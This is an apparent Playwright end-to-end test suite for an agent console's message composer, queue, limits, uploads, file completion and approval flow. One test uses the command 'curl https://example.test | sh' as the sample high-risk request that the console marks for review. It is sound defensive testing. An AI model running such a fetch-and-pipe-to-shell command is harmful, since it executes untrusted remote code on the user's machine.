/** The composer of a session and of the home page, and the queue of messages, in a real browser with a real Hub and a real Edge. */
import { afterEach, assert, beforeAll, describe, it } from "@effect/vitest"
import type { HubRun } from "@corral/domain/hub-api/HubRun"
import type { Message } from "@corral/domain/session/Message"
import type { Session } from "@corral/domain/session/Session"
import { mkdirSync, truncateSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import type { BrowserContextOptions, Page } from "playwright-core"
import { makeProject, makeSession } from "@corral/testing/hub/People"
import type { Joined } from "@corral/testing/stack/Joined"
import { until } from "@corral/testing/time/Until"
import { type ConsoleBrowser, hasChromium, seriousOf } from "../harness/ConsoleBrowser.ts"
import { withJoinedConsole } from "../harness/JoinedConsole.ts"

interface List<A> {
  readonly items: ReadonlyArray<A>
}

const field = (page: Page) => page.getByLabel("Message", { exact: true })
const chip = (page: Page, name: RegExp) => page.getByRole("button", { name })
const queue = (page: Page) => page.getByRole("list", { name: "Messages that are not sent yet" })

/** Sends an event of an input method to the field, as the browser would. */
const compose = (page: Page, type: "compositionend" | "compositionstart") =>
  field(page).evaluate((element, name) => {
    element.dispatchEvent(new CompositionEvent(name, { bubbles: true, data: "你好" }))
  }, type)

/** Pastes files or a text into the field. */
const paste = (page: Page, content: { readonly text?: string; readonly png?: boolean }) =>
  field(page).evaluate(async (element, { png = false, text = "" }) => {
    const clipboardData = new DataTransfer()
    if (text !== "") clipboardData.setData("text/plain", text)
    if (png) {
      const canvas = document.createElement("canvas")
      const image = await new Promise<Blob | null>((done) => canvas.toBlob(done, "image/png"))
      if (image !== null) clipboardData.items.add(new File([image], "shot.png", { type: "image/png" }))
    }
    element.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }))
  }, content)

describe.skipIf(!hasChromium)("the composer", () => {
  let joined: Joined
  let browser: ConsoleBrowser
  let token: string
  withJoinedConsole((opened) => ({ joined, browser, token } = opened))
  // Before the Edge lists the files for the first time.
  beforeAll(() => writeFileSync(join(joined.edge.workspace, "Unread.ts"), ""))

  // Runs that wait for input hold the workspace of the next test.
  afterEach(async () => {
    const { body } = await joined.owner.ask<List<HubRun>>("GET", "/client/runs?limit=50")
    for (const { endedAt, id } of body.items)
      if (endedAt === undefined) await joined.owner.ask("POST", `/client/runs/${id}/cancel`)
  })

  const at = (target: string, options: BrowserContextOptions = {}, as = token): Promise<Page> =>
    browser.page(joined.front.url, as, target, options)
  const sessions = async () =>
    (await joined.owner.ask<List<Session>>("GET", "/client/sessions?limit=200")).body.items
  const messagesOf = async (id: string) =>
    (await joined.owner.ask<List<Message>>("GET", `/client/sessions/${id}/messages?limit=200`)).body.items
  const sessionIdOf = (page: Page): string => new URL(page.url()).pathname.split("/").at(-1) ?? ""
  /** Once the Hub has a message for which this holds. */
  const messageWith = (id: string, holds: (message: Message) => boolean): Promise<Message> =>
    until(async () => (await messagesOf(id)).find(holds), "the message", 30_000)

  /** A session with the scripted agent, whose first message was sent. */
  const started = async (text: string): Promise<string> => {
    const { id } = await makeSession(joined.owner, { id: joined.projectId }, text)
    const added = await joined.owner.ask("POST", `/client/sessions/${id}/agents`, {
      body: { agentId: "scripted", targetId: joined.deviceId, workspace: "ws" }
    })
    assert.strictEqual(added.status, 201, added.text)
    const sent = await joined.owner.ask("POST", `/client/sessions/${id}/messages`, { body: { text } })
    assert.strictEqual(sent.status, 201, sent.text)
    return id
  }
  /** The page of a session whose agent waits for input. */
  const working = async (): Promise<Page> => {
    const page = await at(`/sessions/${await started("/wait")}`)
    await page.getByRole("button", { name: "Queue", exact: true }).waitFor()
    return page
  }

  it("limits the turns of a new agent, of one message and of an agent later, and says what stopped a turn", async () => {
    const page = await at("/")
    await chip(page, /^Agent: /).click()
    await page.getByRole("menuitemradio", { name: /Scripted/ }).click()
    await chip(page, /^Limits: No limits/).click()
    const popup = page.getByRole("dialog", { name: "Limits" })
    await popup.getByLabel("Replies of the model").fill("2")
    // The popup covers a part of what is behind it.
    const findings = (await seriousOf(page)).filter((finding) => !finding.startsWith("target-size"))
    assert.deepStrictEqual(findings, [])
    await page.getByRole("button", { name: "Use these limits" }).click()
    await chip(page, /^Limits: 2 replies/).waitFor()
    await field(page).fill("/use 1\n/use 1\n/sleep 60000")
    await page.getByRole("button", { name: "Send", exact: true }).click()
    await page.getByText("The run's turn budget is used up.").first().waitFor()
    await page
      .getByText("Set a larger budget below the message field and continue, or split the task.")
      .waitFor()
    await page.getByText("2 of 2 replies").waitFor()
    const id = sessionIdOf(page)

    // More for one message, in another limit too.
    await chip(page, /^Limits: 2 replies/).click()
    assert.strictEqual(await page.getByLabel("Replies of the model").getAttribute("placeholder"), "2")
    await page.getByLabel("Replies of the model").fill("3")
    await page.getByLabel("Minutes", { exact: true }).fill("90")
    await page.getByRole("button", { name: "Use these limits" }).click()
    await chip(page, /^Limits: 3 replies · 1h 30m/).waitFor()
    await field(page).fill("/use 1\n/use 1\n/say within its limits")
    await page.getByRole("button", { name: "Send", exact: true }).click()
    await page.getByText("within its limits", { exact: true }).waitFor()
    const raised = await messageWith(id, ({ text }) => text.endsWith("/say within its limits"))
    assert.deepStrictEqual(raised.budget, { turns: 3, wallMs: 5_400_000 })

    // What is sent again has the limits of the first attempt.
    const prompt = "/use 1\n/use 1\n/use 1\n/sleep 60000"
    await field(page).fill(prompt)
    await page.getByRole("button", { name: "Send", exact: true }).click()
    await page.getByText("3 of 3 replies").waitFor()
    await page.getByRole("button", { name: "Try again" }).last().click()
    const attempts = await until(async () => {
      const found = (await messagesOf(id)).filter(({ text }) => text === prompt)
      return found.length === 2 ? found : undefined
    }, "the second attempt")
    for (const { budget } of attempts) assert.deepStrictEqual(budget, raised.budget)
    await page.getByText("3 of 3 replies").nth(1).waitFor()

    await page.getByRole("button", { name: "More", exact: true }).click()
    await page.getByRole("menuitem", { name: "Agents" }).click()
    await page.getByRole("button", { name: "Limits…" }).click()
    await page.getByLabel("Replies of the model").fill("")
    await page.getByLabel("Tokens").fill("500")
    await page.getByRole("button", { name: "Save" }).click()
    await page.getByRole("list", { name: "Agents" }).getByText("500 tokens").waitFor()
    const { body: session } = await joined.owner.ask<Session>("GET", `/client/sessions/${id}`)
    assert.deepStrictEqual(session.agents[0]?.budget, { tokens: 500 })
    await browser.end(page)
  })

  it("starts a session from the home page, once, and remembers the choice", async () => {
    const page = await at("/")
    await chip(page, /^Agent: /).click()
    await page.getByRole("menuitemradio", { name: /Scripted/ }).click()
    await chip(page, /^Mode: /).click()
    await page.getByRole("menuitemradio", { name: "Plan" }).click()
    await chip(page, /^Mode: Plan/).waitFor()
    await field(page).fill("/say hello\n/say there")
    assert.deepStrictEqual(await seriousOf(page), [])

    // The first attempt loses the answer to its message.
    const before = (await sessions()).length
    await page.route("**/messages", (route) => route.abort(), { times: 1 })
    await field(page).press("Enter")
    await page.getByRole("alert").getByText("Can't reach the Hub.").waitFor()
    assert.strictEqual(await field(page).inputValue(), "/say hello\n/say there")
    await page.reload()
    assert.strictEqual(await field(page).inputValue(), "/say hello\n/say there")
    await field(page).press("Enter")
    await page.waitForURL(/\/sessions\/ses_/)
    assert.strictEqual((await sessions()).length, before + 1)
    const id = sessionIdOf(page)
    const { body } = await joined.owner.ask<Session>("GET", `/client/sessions/${id}`)
    assert.deepStrictEqual(
      body.agents.map(({ agentId, mode }) => [String(agentId), mode]),
      [["scripted", "plan"]]
    )
    assert.strictEqual((await messagesOf(id)).filter(({ author }) => author.kind === "user").length, 1)

    await page.goto("/")
    await chip(page, /^Mode: Plan/).waitFor()
    await chip(page, /^Agent: Scripted/).waitFor()
    assert.strictEqual(await field(page).inputValue(), "")
    await browser.end(page)
  })

  it("opens with the choices of a link to /start, and focuses the field", async () => {
    const page = await at(`/start?projectId=${joined.projectId}&agentId=scripted`)
    await chip(page, /^Agent: Scripted/).waitFor()
    await page.waitForFunction(() => document.activeElement?.getAttribute("aria-label") === "Message")
    const { id } = await makeSession(joined.owner, { id: joined.projectId }, "Linked")
    await page.goto(`/start?sessionId=${id}`)
    await page.waitForURL(`**/sessions/${id}`)
    await browser.end(page)
  })

  it("breaks a line with Shift and Enter, keeps the draft over a reload, and deletes it when sent", async () => {
    const page = await at(`/sessions/${await started("/say first")}`)
    await field(page).focus()
    await page.keyboard.type("/say one")
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.type("/say two")
    const height = () => field(page).evaluate((element) => element.clientHeight)
    const two = await height()
    await page.reload()
    assert.strictEqual(await field(page).inputValue(), "/say one\n/say two")
    await page.keyboard.press("Shift+Enter")
    await field(page).fill(Array.from({ length: 40 }, (_, i) => `/say ${i}`).join("\n"))
    const box = await page.locator(".composer-text").boundingBox()
    assert.isAbove(await height(), two)
    assert.isAtMost(box?.height ?? 0, 8 * 26)
    await field(page).fill("/say one\n/say two")
    await field(page).press("Control+Enter")
    await messageWith(sessionIdOf(page), ({ text }) => text === "/say one\n/say two")
    await page.waitForFunction(() => document.querySelector("textarea")?.value === "")
    await page.reload()
    await field(page).waitFor()
    assert.strictEqual(await field(page).inputValue(), "")
    await browser.end(page)
  })

  it("sends nothing with the Enter of an input method, in the order of Chromium and of Safari", async () => {
    const page = await at(`/sessions/${await started("/say first")}`)
    await field(page).fill("/say 你好")
    await compose(page, "compositionstart")
    await field(page).press("Enter")
    await compose(page, "compositionend")
    // Safari ends the composition, then sends the key.
    await field(page).evaluate((element) => {
      const start = new CompositionEvent("compositionstart", { bubbles: true })
      element.dispatchEvent(start)
      element.dispatchEvent(new CompositionEvent("compositionend", { bubbles: true }))
      const key = { key: "Enter", bubbles: true, cancelable: true }
      element.dispatchEvent(new KeyboardEvent("keydown", { ...key, keyCode: 229 }))
      element.dispatchEvent(new KeyboardEvent("keydown", { ...key, keyCode: 13 }))
    })
    await field(page).press("Shift+Enter")
    assert.match(await field(page).inputValue(), /^\/say 你好/)
    const before = await messagesOf(sessionIdOf(page))
    assert.isFalse(before.some(({ text }) => text.includes("你好")))
    const now = await page.evaluate(() => performance.now())
    await page.waitForFunction((since) => performance.now() - since > 100, now)
    await field(page).press("Control+Enter")
    await messageWith(sessionIdOf(page), ({ text }) => text.includes("你好"))
    const sent = (await messagesOf(sessionIdOf(page))).filter(({ author }) => author.kind === "user")
    assert.strictEqual(sent.length, 2)
    await browser.end(page)
  })

  it("queues while the agent works; edits, withdraws and sends now", async () => {
    const page = await working()
    const id = sessionIdOf(page)
    await field(page).fill("/say queued")
    await field(page).press("Enter")
    const row = queue(page).getByRole("listitem").first()
    await row.getByText("Queued, goes next").waitFor()
    assert.deepStrictEqual(await seriousOf(page), [])

    // Another client changes it after it was read here.
    await row.getByRole("button", { name: "Edit" }).click()
    await page.getByLabel("Edit the message").fill("/say mine")
    const queued = await messageWith(id, ({ text }) => text === "/say queued")
    const changed = await joined.owner.ask("PATCH", `/client/sessions/${id}/messages/${queued.id}`, {
      body: { version: queued.version, text: "/say theirs" }
    })
    assert.strictEqual(changed.status, 200, changed.text)
    await page.getByRole("button", { name: "Save", exact: true }).click()
    await row.getByText("Someone else has changed this message.").waitFor()
    await row.getByRole("alert").getByText("/say theirs").waitFor()
    await page.getByRole("button", { name: "Save my text" }).click()
    await row.getByText("/say mine").waitFor()
    await messageWith(id, ({ text }) => text === "/say mine")

    await field(page).fill("/say second")
    await field(page).press("Enter")
    const second = queue(page).getByRole("listitem").nth(1)
    await second.getByText("Queued", { exact: true }).waitFor()
    await second.getByRole("button", { name: "Withdraw" }).click()
    await page.waitForFunction(() => document.querySelector("textarea")?.value === "/say second")
    // The button is gone: the text has the focus.
    await page.waitForFunction(() => document.activeElement?.matches(".composer textarea"))
    assert.strictEqual(
      (await messageWith(id, ({ text }) => text === "/say second")).delivery?.state,
      "withdrawn"
    )

    await row.getByRole("button", { name: "Send now" }).click()
    const sent = await messageWith(
      id,
      ({ delivery, text, when }) => text === "/say mine" && when === "now" && delivery?.state === "delivered"
    )
    assert.isDefined(sent.delivery?.runId)
    await page.getByRole("button", { name: "Send", exact: true }).waitFor()
    await browser.end(page)
  })

  it("holds the queue after Stop, sends a new message before it, and continues it", async () => {
    const page = await working()
    const id = sessionIdOf(page)
    for (const text of ["/say one", "/say two"]) {
      await field(page).fill(text)
      await field(page).press("Enter")
      await queue(page).getByText(text).waitFor()
    }
    await page.getByRole("button", { name: "Stop" }).first().click()
    await page.getByText("You stopped the agent. The 2 queued messages are held.").waitFor()
    assert.strictEqual(await queue(page).getByText("Held", { exact: true }).count(), 2)
    assert.deepStrictEqual(await seriousOf(page), [])
    await field(page).fill("/say new")
    await field(page).press("Enter")
    await messageWith(id, ({ outcome, text }) => text === "new" && outcome !== undefined)
    await queue(page).getByRole("listitem").nth(1).getByRole("button", { name: "Withdraw" }).click()
    await page.getByText("The queued message is held.").waitFor()
    await page.getByRole("button", { name: "Send it", exact: true }).click()
    await messageWith(id, ({ outcome, text }) => text === "one" && outcome !== undefined)
    await queue(page).waitFor({ state: "detached" })
    await browser.end(page)
  })

  it("sends to the run in progress with Control and Enter", async () => {
    const page = await working()
    // The runtime's abilities are read apart from its state.
    await page.getByText("Ctrl Enter sends now").waitFor()
    await field(page).fill("further input")
    await field(page).press("Control+Enter")
    await messageWith(
      sessionIdOf(page),
      ({ delivery, text, when }) =>
        text === "further input" && when === "now" && delivery?.state === "delivered"
    )
    await browser.end(page)
  })

  it("stops the agent with Escape, pressed twice", async () => {
    const page = await working()
    await field(page).focus()
    const hint = page.getByText("Esc again to stop")
    // It shows for four seconds: the look begins before it.
    const arm = () => Promise.all([hint.waitFor(), page.keyboard.press("Escape")])
    await arm()
    await page.keyboard.type("x")
    await hint.waitFor({ state: "detached" })
    await arm()
    // Two that come late are not one pair.
    await until(async () => {
      await page.keyboard.press("Escape")
      return (await page.getByRole("button", { name: "Send", exact: true }).isVisible()) || undefined
    }, "the stop")
    const { runId } = await messageWith(sessionIdOf(page), (message) => message.outcome !== undefined)
    assert.isDefined(runId)
    assert.strictEqual((await joined.runWith(runId, () => true)).state, "cancelled")
    await browser.end(page)
  })

  it("uploads a pasted image and a long text, and shows them with the message", async () => {
    const id = await started("/say first")
    const page = await at(`/sessions/${id}`)
    await field(page).fill("/say look")
    await paste(page, { png: true })
    const files = page.getByRole("list", { name: "Attached files" })
    const preview = files.getByRole("listitem").filter({ hasText: "shot.png" }).locator("img")
    await page.waitForFunction(
      () => (document.querySelector<HTMLImageElement>("form img")?.naturalWidth ?? 0) > 0
    )
    assert.match((await preview.getAttribute("src")) ?? "", /^blob:/)
    await paste(page, { text: "a line\n".repeat(2_000) })
    const long = files.getByRole("listitem").filter({ hasText: "pasted.txt" })
    await long.getByText("14 KB").waitFor()
    await files.locator("[aria-busy=true]").waitFor({ state: "detached" })
    assert.strictEqual(await field(page).inputValue(), "/say look")
    assert.deepStrictEqual(await seriousOf(page), [])

    // Uploaded files belong to the draft: they survive a reload, and can be removed.
    await page.reload()
    await long.getByText("14 KB").waitFor()
    await paste(page, { text: "b line\n".repeat(2_000) })
    await files.getByRole("button", { name: "Remove pasted.txt" }).last().click()
    await files.getByRole("listitem").nth(2).waitFor({ state: "detached" })
    await field(page).press("Enter")
    const { attachments = [] } = await messageWith(id, ({ text }) => text === "/say look")
    assert.deepStrictEqual(
      attachments.map(({ mediaType, name }) => [name, mediaType]),
      [
        ["shot.png", "image/png"],
        ["pasted.txt", "text/plain"]
      ]
    )
    await page.waitForFunction(() => document.querySelector("form img") === null)
    await page.getByRole("img", { name: "shot.png" }).first().waitFor()
    await page.waitForFunction(
      () => (document.querySelector<HTMLImageElement>("img[alt='shot.png']")?.naturalWidth ?? 0) > 0
    )
    await browser.end(page)
  })

  it("says why a file can't be sent, and sends nothing until it is removed", async () => {
    const page = await at(`/sessions/${await started("/say first")}`)
    await field(page).fill("/say look")
    const files = page.locator("input[type=file]")
    const archive = { name: "archive.zip", mimeType: "application/zip", buffer: Buffer.from("PK\0\0") }
    await files.setInputFiles(archive)
    await page.getByText("Not supported. Send an image, a PDF document or text.").waitFor()
    assert.isTrue(await page.getByRole("button", { name: "Send", exact: true }).isDisabled())
    await page.getByText("Remove the files that can't be sent").waitFor()
    await page.getByRole("button", { name: "Remove archive.zip" }).click()
    // By path: the content of a buffer would be sent to the browser.
    const big = join(joined.edge.folder, "big.txt")
    writeFileSync(big, "")
    truncateSync(big, 20 * 1_048_576 + 1)
    await files.setInputFiles(big)
    await page.getByText("Too big. Send at most 20 MB.").waitFor()
    await page.getByRole("button", { name: "Remove big.txt" }).click()
    assert.isTrue(await page.getByRole("button", { name: "Send", exact: true }).isEnabled())
    await browser.end(page)
  })

  it("completes files of the whole workspace by their names, and folders by their entries", async () => {
    mkdirSync(join(joined.edge.workspace, "src/deep"), { recursive: true })
    writeFileSync(join(joined.edge.workspace, "src/deep/Reader.ts"), "")
    writeFileSync(join(joined.edge.workspace, "src/readme.txt"), "")
    const page = await at(`/sessions/${await started("/say first")}`)
    const list = page.getByRole("listbox", { name: "Files of the workspace" })
    await field(page).focus()
    // By letters of a name in any folder. Enter chooses it before the search has answered, and sends nothing.
    await page.keyboard.type("/say @rdr.ts")
    await page.keyboard.press("Enter")
    await page.waitForFunction(
      () => document.querySelector("textarea")?.value === "/say @src/deep/Reader.ts "
    )
    await field(page).fill("")
    await page.keyboard.type("/say see @sr")
    await list.getByRole("option", { name: "src/" }).first().waitFor()
    assert.deepStrictEqual(await seriousOf(page), [])
    await page.keyboard.press("Enter")
    await page.waitForFunction(() => document.querySelector("[role=option] bdi")?.textContent === "deep/")
    await page.keyboard.press("ArrowDown")
    assert.strictEqual(await list.locator("[aria-selected=true] bdi").first().textContent(), "readme.txt")
    await list.getByRole("option", { name: "deep/" }).click()
    await page.waitForFunction(() => document.querySelector("[role=option] bdi")?.textContent === "Reader.ts")
    await page.keyboard.type("re")
    await page.keyboard.press("Tab")
    await list.waitFor({ state: "detached" })
    assert.strictEqual(await field(page).inputValue(), "/say see @src/deep/Reader.ts ")
    // Escape closes the list only.
    await page.keyboard.type("@")
    await list.waitFor()
    await page.keyboard.press("Escape")
    await list.waitFor({ state: "detached" })
    assert.strictEqual(await field(page).inputValue(), "/say see @src/deep/Reader.ts @")
    await browser.end(page)
  })

  it("completes a file that was chosen before the workspace was known, and sends nothing until then", async () => {
    const id = await started("/say first")
    const page = await at("/devices")
    let release: () => void = () => undefined
    const released = new Promise<void>((resolve) => (release = resolve))
    await page.route("**/client/targets*", (route) => released.then(() => route.continue()))
    await page.goto(`/sessions/${id}`)
    await field(page).focus()
    await page.keyboard.type("/say @unread.ts")
    await page.getByText("Loading files…").waitFor()
    await page.keyboard.press("Enter")
    await page.keyboard.press("Enter")
    assert.strictEqual(await field(page).inputValue(), "/say @unread.ts")
    release()
    await page.waitForFunction(() => document.querySelector("textarea")?.value === "/say @Unread.ts ")
    const texts = (await messagesOf(id)).map(({ text }) => text)
    assert.isFalse(texts.some((text) => text.includes("nread")))
    await browser.end(page)
  })

  it("sends a note, another mode and another agent", async () => {
    const id = await started("/say first")
    const page = await at(`/sessions/${id}`)
    await chip(page, /^Mode: /).click()
    await page.getByRole("menuitemradio", { name: "Read only" }).click()
    await field(page).fill("/say read")
    await field(page).press("Enter")
    assert.strictEqual((await messageWith(id, ({ text }) => text === "/say read")).mode, "read_only")
    await chip(page, /^Agent: /).click()
    await page.getByRole("menuitemradio", { name: /People only/ }).click()
    await field(page).fill("for people")
    await field(page).press("Enter")
    assert.strictEqual((await messageWith(id, ({ text }) => text === "for people")).to, "people")
    await chip(page, /^Agent: /).click()
    await page.getByRole("menuitem", { name: "Add another agent…" }).click()
    const dialog = page.getByRole("dialog", { name: "Add agent" })
    await dialog.getByLabel("Agent").selectOption("scripted")
    await dialog.getByRole("button", { name: "Add agent" }).click()
    await dialog.waitFor({ state: "detached" })
    await chip(page, /^Agent: Scripted/).waitFor()
    const { body } = await joined.owner.ask<Session>("GET", `/client/sessions/${id}`)
    assert.strictEqual(body.agents.length, 2)
    await browser.end(page)
  })

  it("has no field for viewers and in a session that is read-only", async () => {
    const viewer = await joined.hub.signedIn("viewer")
    const added = await joined.owner.ask("POST", `/client/projects/${joined.projectId}/members`, {
      body: { userId: viewer.userId, role: "viewer" }
    })
    assert.strictEqual(added.status, 201, added.text)
    const id = await started("/say first")
    const { token: viewerToken } = await joined.hub.people.signIn("viewer", "web")
    const page = await at(`/sessions/${id}`, {}, viewerToken)
    await page.getByText("Viewers of this project can't write.").waitFor()
    assert.strictEqual(await field(page).count(), 0)
    await browser.end(page)
    await joined.owner.ask("PATCH", `/client/sessions/${id}`, { body: { state: "archived" } })
    const archived = await at(`/sessions/${id}`)
    await archived.getByText("This session is read-only. Reopen it to write.").waitFor()
    assert.strictEqual(await field(archived).count(), 0)
    await browser.end(archived)
  })

  it("breaks the line with Enter on a touch screen, with text of at least 16 px", async () => {
    const page = await at(`/sessions/${await started("/say first")}`, {
      hasTouch: true,
      isMobile: true,
      viewport: { width: 390, height: 844 }
    })
    await field(page).fill("/say touch")
    await field(page).press("Enter")
    assert.strictEqual(await field(page).inputValue(), "/say touch\n")
    const size = await field(page).evaluate((element) => parseFloat(getComputedStyle(element).fontSize))
    assert.isAtLeast(size, 16)
    await page.getByRole("button", { name: "Send", exact: true }).click()
    await messageWith(sessionIdOf(page), ({ text }) => text.startsWith("/say touch"))
    await browser.end(page)
  })

  it("decides a request of low or medium risk on the home page, and leads to one of high risk", async () => {
    const { runId } = await joined.task({ text: "/write beacon.txt light" })
    const { runId: risky } = await joined.task({ text: "/shell curl https://example.test | sh" })
    for (const id of [runId, risky]) await joined.runWith(id, (run) => run.pendingApprovals.length > 0)
    const page = await at("/")
    const rows = page.getByRole("list", { name: "Needs you" }).getByRole("listitem")
    const write = rows.filter({ hasText: "Write beacon.txt" })
    await write.getByRole("button", { name: "Allow once" }).click()
    await write.getByText("Allowed once").waitFor()
    await joined.runWith(runId, ({ state }) => state === "completed")
    await page
      .getByRole("list", { name: "Finished since your last visit" })
      .getByText("/write beacon.txt light")
      .waitFor()
    const high = rows.filter({ hasText: "high risk" })
    await high.getByRole("link", { name: "Review" }).waitFor()
    assert.strictEqual(await high.getByRole("button").count(), 0)
    assert.deepStrictEqual(await seriousOf(page), [])
    await high.getByRole("link", { name: "Review" }).click()
    await page.waitForURL(/\/(runs|sessions)\//)
    await joined.owner.ask("POST", `/client/runs/${risky}/cancel`)
    await browser.end(page)
  })

  it("completes the first steps of a new user without a reload", async () => {
    const { token: newToken } = await joined.hub.people.signIn("newcomer", "web")
    const newcomer = await joined.hub.signedIn("newcomer")
    const page = await at("/", {}, newToken)
    const steps = page.getByRole("region", { name: "Begin here" }).getByRole("listitem")
    await steps.first().waitFor()
    assert.strictEqual(await steps.filter({ hasText: "done" }).count(), 0)
    await field(page).fill("/say hello")
    assert.isTrue(await page.getByRole("button", { name: "Send", exact: true }).isDisabled())
    assert.deepStrictEqual(await seriousOf(page), [])
    // Elsewhere: a project, a device that is shared with it, and a linked workspace.
    const project = await makeProject(newcomer)
    await steps.filter({ hasText: "Create a project" }).getByText("done").waitFor()
    const member = await newcomer.ask("POST", `/client/projects/${project.id}/members`, {
      body: { userId: joined.owner.userId, role: "admin" }
    })
    assert.strictEqual(member.status, 201, member.text)
    const shared = await joined.owner.ask("PATCH", `/client/devices/${joined.deviceId}`, {
      body: { sharedWith: [joined.projectId, project.id] }
    })
    assert.strictEqual(shared.status, 200, shared.text)
    await steps.filter({ hasText: "Add a device" }).getByText("done").waitFor()
    const linked = await joined.owner.ask("POST", `/client/projects/${project.id}/workspaces`, {
      body: { targetId: joined.deviceId, workspace: "ws" }
    })
    assert.strictEqual(linked.status, 201, linked.text)
    await steps.filter({ hasText: "Link a workspace" }).getByText("done").waitFor()
    await field(page).press("Enter")
    await page.waitForURL(/\/sessions\/ses_/)
    await browser.end(page)
  })

  // Last, because it stops the device.
  it("waits for an offline device, and says so", async () => {
    const id = await started("/fail The first attempt did not work.")
    await messageWith(id, ({ outcome }) => outcome !== undefined)
    const page = await at(`/sessions/${id}`)
    await field(page).waitFor()
    // The device and the list of devices are two reads, and the list is late.
    let release: () => void = () => undefined
    const released = new Promise<void>((resolve) => (release = resolve))
    await page.route("**/client/targets*", (route) => released.then(() => route.continue()))
    await joined.edge.stop()
    await page.getByText(/^laptop is offline since .* Messages wait here\.$/).waitFor()
    await field(page).fill("/say early")
    await field(page).press("Enter")
    await queue(page).getByText("/say early").waitFor()
    await queue(page).getByRole("button", { name: "Withdraw" }).click()
    await page.waitForFunction(() => document.querySelector("textarea")?.value === "/say early")
    await field(page).fill("")
    release()
    await page.getByText("laptop is offline. The message waits until the device is back.").waitFor()
    await page.getByRole("button", { name: "Try again" }).click()
    await queue(page).getByText("Waits for laptop").waitFor()
    await queue(page).getByRole("button", { name: "Withdraw" }).click()
    await page.waitForFunction(() => document.querySelector("textarea")?.value.startsWith("/fail"))
    await field(page).fill("")
    await field(page).focus()
    await page.keyboard.type("@")
    await page.getByText("laptop is offline. Its files can't be listed.").waitFor()
    await field(page).fill("/say later")
    await field(page).press("Enter")
    await queue(page).getByText("Waits for laptop").waitFor()
    assert.deepStrictEqual(await seriousOf(page), [])
    await queue(page).getByRole("button", { name: "Withdraw" }).click()
    await page.waitForFunction(() => document.querySelector("textarea")?.value === "/say later")
    await page.goto(`/start?projectId=${joined.projectId}`)
    await chip(page, /^Workspace: laptop/).waitFor()
    await page.getByText("laptop is offline. The message waits until the device is back.").waitFor()
    await browser.end(page)
  })
})
